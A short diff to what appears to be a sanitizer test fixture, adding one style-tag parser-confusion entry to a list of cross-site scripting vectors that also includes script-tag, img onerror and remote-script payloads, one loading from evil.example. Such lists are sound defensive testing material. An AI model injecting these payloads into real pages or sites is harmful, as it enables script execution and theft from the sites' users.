@@ -8,6 +8,8 @@ import { Parser } from 'htmlparser2';
 /** Hostile snippets, each one a way some sanitizer has been bypassed. */
 export const XSS_VECTORS: string[] = [
   '<script>alert(1)</script>',
+  // htmlparser2 keeps <style/> open but reads what follows as markup; sanitize-html then copied it unescaped.
+  '<style/>&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;',
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
   '<scr<script>ipt>alert(1)</scr</script>ipt>',
   '<img src=x onerror=alert(1)>',
